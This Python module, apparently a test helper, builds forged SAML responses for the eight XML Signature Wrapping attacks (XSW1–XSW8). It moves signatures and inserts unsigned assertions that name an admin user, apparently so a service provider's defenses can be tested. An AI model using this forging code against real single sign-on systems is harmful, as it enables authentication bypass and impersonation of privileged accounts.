"""The eight ways of wrapping, made of a response that another program has signed.

SPEC: attacks S01 to S08.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from support.saml_idp import SAML_NAMESPACES

SAML = f"{{{SAML_NAMESPACES['saml']}}}"
SAMLP = f"{{{SAML_NAMESPACES['samlp']}}}"
DS = f"{{{SAML_NAMESPACES['ds']}}}"
ADMIN = "admin@corp.example"


def _cut(element: Any) -> Any:
    """Takes the signature out of an element and returns it."""
    signature = element.find(f"{DS}Signature")
    element.remove(signature)
    return signature


def _forged(assertion: Any) -> Any:
    """Returns a copy for somebody else, under another ID and without a signature."""
    copy = deepcopy(assertion)
    _cut(copy)
    return _changed(copy)


def _changed(assertion: Any) -> Any:
    assertion.set("ID", "_forged")
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = ADMIN
    return assertion


def _object(signature: Any, inner: Any) -> None:
    etree.SubElement(signature, f"{DS}Object").append(inner)


def _whole(root: Any, *, inside: bool) -> None:
    """Wraps the signed response: inside of its signature, or beside it."""
    original = deepcopy(root)
    signature = _cut(original)
    _cut(root)
    root.set("ID", "_evil")
    assertion = root.find(f"{SAML}Assertion")
    root.replace(assertion, _forged(assertion))
    root.insert(1, signature)
    if inside:
        _object(signature, original)
    else:
        root.insert(2, original)


def _xsw3(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    assertion.addprevious(_forged(assertion))


def _xsw4(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    forged = _forged(assertion)
    root.replace(assertion, forged)
    forged.append(assertion)


def _xsw5(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    original = deepcopy(assertion)
    _cut(original)
    _changed(assertion)
    root.append(original)


def _xsw6(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    forged, signature = _forged(assertion), _cut(assertion)
    root.replace(assertion, forged)
    forged.insert(1, signature)
    signature.append(assertion)


def _xsw7(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_forged(assertion))
    assertion.addprevious(extensions)


def _xsw8(root: Any) -> None:
    assertion = root.find(f"{SAML}Assertion")
    forged, signature = _forged(assertion), _cut(assertion)
    root.replace(assertion, forged)
    forged.insert(1, signature)
    _object(signature, assertion)


# Those that need a response which is signed itself, and the others.
WHOLE: dict[str, Callable[[Any], None]] = {
    "S01-XSW1": lambda root: _whole(root, inside=True),
    "S02-XSW2": lambda root: _whole(root, inside=False),
}
PART: dict[str, Callable[[Any], None]] = {
    "S03-XSW3": _xsw3,
    "S04-XSW4": _xsw4,
    "S05-XSW5": _xsw5,
    "S06-XSW6": _xsw6,
    "S07-XSW7": _xsw7,
    "S08-XSW8": _xsw8,
}


def rewrapped(response: bytes, wrap: Callable[[Any], None]) -> bytes:
    """Returns a response that says that somebody else has signed in."""
    root = etree.fromstring(response)
    wrap(root)
    text: bytes = etree.tostring(root)
    assert ADMIN.encode() in text
    return text
